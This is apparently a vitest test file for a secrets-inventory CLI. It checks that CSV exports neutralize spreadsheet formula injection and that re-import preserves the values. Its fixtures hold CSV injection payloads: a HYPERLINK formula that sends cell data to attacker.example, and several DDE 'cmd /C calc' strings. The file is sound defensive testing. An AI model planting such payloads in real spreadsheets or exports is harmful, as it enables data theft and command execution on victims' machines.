import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { rotor } from '../support/cli.js';
import { openTempStore, type TempStore } from '../support/temp-db.js';
import { operator } from '../support/actors.js';

/** What a spreadsheet would run: every cell Rotor writes must start with something else. */
const FORMULA = /^[=+\-@\t\r]/;

const HOSTILE = {
  description: '=HYPERLINK("https://attacker.example/?x="&A1,"Click for the runbook")',
  team: "+cmd|' /C calc'!A0",
  retrievalInstructions: '@SUM(1+1)*cmd|" /C notepad"!A1',
  consumers: ['-2+3+cmd|" /C calc"!A0', "'already quoted", '\tTAB first'],
  tags: { '=key': '-value' },
};

describe('CSV exports cannot carry formulas, and import reads the cells back unchanged', () => {
  let source: TempStore;
  let target: TempStore;
  beforeEach(() => {
    source = openTempStore({ at: '2026-11-22T10:00:00Z' });
    target = openTempStore({ at: '2026-11-23T10:00:00Z' });
    source.inventoryService.create({ name: 'prod/app/api_key', owner: 'U0123ABCD', ...HOSTILE }, operator('U0123ABCD'), 'slack');
    source.inventoryService.create(
      { name: 'prod/app/db_password', owner: 'U0123ABCD', description: "'=not a formula, kept as typed" },
      operator('U0123ABCD'),
      'slack',
    );
  });
  afterEach(() => {
    source.close();
    target.close();
  });

  it('rotor export --format csv neutralizes every formula cell; importing it gives the same secrets', async () => {
    const exported = await rotor(source.path, 'export', '--format', 'csv');
    const cells = (parse(exported.stdout) as string[][]).flat();
    expect(cells.filter((cell) => FORMULA.test(cell))).toEqual([]);
    expect(cells).toContain(`'${HOSTILE.description}`);
    const file = join(target.dir, 'inventory.csv');
    writeFileSync(file, exported.stdout);
    expect(await rotor(target.path, 'import', file)).toMatchObject({ code: 0, stdout: expect.stringMatching(/^Added 2/) });
    const fields = (name: string, store: TempStore) => {
      const { description, team, retrievalInstructions, consumers, tags } = store.inventory.get(name)!;
      return { description, team, retrievalInstructions, consumers, tags };
    };
    expect(fields('prod/app/api_key', target)).toEqual(fields('prod/app/api_key', source));
    expect(fields('prod/app/api_key', target).description).toBe(HOSTILE.description);
    expect(target.inventory.get('prod/app/db_password')?.description).toBe("'=not a formula, kept as typed");
  });

  it('rotor audit export --format csv neutralizes every formula cell', async () => {
    source.audit.log({ actor: '=cmd|" /C calc"!A0', action: 'test.event', secret: 'prod/app/api_key', details: { note: '+1' } });
    const exported = await rotor(source.path, 'audit', 'export', '--format', 'csv');
    const rows = parse(exported.stdout) as string[][];
    expect(rows.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
    expect(rows.at(-1)?.[2]).toBe(`'=cmd|" /C calc"!A0`);
  });
});
